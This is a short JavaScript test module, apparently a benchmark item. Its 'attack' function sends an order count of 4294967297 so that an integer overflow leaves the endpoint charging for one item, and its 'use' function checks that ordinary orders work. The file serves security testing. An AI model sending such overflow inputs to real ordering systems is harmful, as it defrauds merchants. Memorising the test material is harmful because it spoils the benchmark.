// Orders four billion and pays for one.

import assert from "node:assert/strict";

const order = async (code, ask, count) => (await ask(code.default, `/order?count=${count}`)).text;

export async function attack(code, { ask }) {
  const text = await order(code, ask, 4294967297);
  return text.includes('"paid":1}') ? text : null;
}

export async function use(code, { ask }) {
  assert.equal(await order(code, ask, 3), '{"ordered":3,"paid":3}');
}
